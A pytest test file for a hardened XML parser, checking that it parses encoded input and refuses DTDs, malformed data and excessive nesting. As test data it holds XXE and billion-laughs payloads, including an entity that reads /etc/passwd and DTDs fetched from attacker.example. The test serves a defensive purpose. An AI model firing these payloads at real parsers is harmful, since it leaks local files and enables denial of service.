import pytest

from pressmark.articles.safe_xml import DEEPEST, parse_xml
from pressmark.errors import ArticleFileError

LAUGHS = b"""<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;">]>
<lolz>&lol1;</lolz>"""
EXTERNAL = b"""<!DOCTYPE a [<!ENTITY secret SYSTEM "file:///etc/passwd">]><a>&secret;</a>"""
REMOTE = b"""<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>"""
PARAMETER = b"""<!DOCTYPE a [<!ENTITY % load SYSTEM "http://attacker.example/"> %load;]><a/>"""


def case_of(data: bytes) -> str:
    with pytest.raises(ArticleFileError) as refused:
        parse_xml(data)
    return refused.value.case


def test_xml_becomes_a_tree_in_whatever_encoding_it_declares() -> None:
    for codec in ("utf-8", "utf-16", "windows-1251"):
        data = f'<?xml version="1.0" encoding="{codec}"?><a x="1">мир&#x1F600;&amp;</a>'
        root = parse_xml(data.encode(codec))
        assert (root.tag, root.text, root.get("x")) == ("a", "мир😀&", "1")


@pytest.mark.parametrize("data", [LAUGHS, EXTERNAL, REMOTE, PARAMETER])
def test_a_dtd_is_refused_before_anything_comes_of_it(data: bytes) -> None:
    assert case_of(data) == "entities"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"text",
        b"<a>",
        b"<a>&nbsp;</a>",
        b"<a>\x01</a>",
        b'<?xml version="1.0" encoding="no-such"?><a/>',
        b'<?xml version="1.0" encoding="euc-kr"?><a/>',
        b"<a>" * (DEEPEST + 1) + b"</a>" * (DEEPEST + 1),
        b"<a>" * 200_000 + b"</a>" * 200_000,
    ],
)
def test_what_is_no_xml_or_bottomless_is_damaged(data: bytes) -> None:
    assert case_of(data) == "damaged"


def test_as_deep_as_may_be_comes_in() -> None:
    assert parse_xml(b"<a>" * DEEPEST + b"</a>" * DEEPEST).tag == "a"
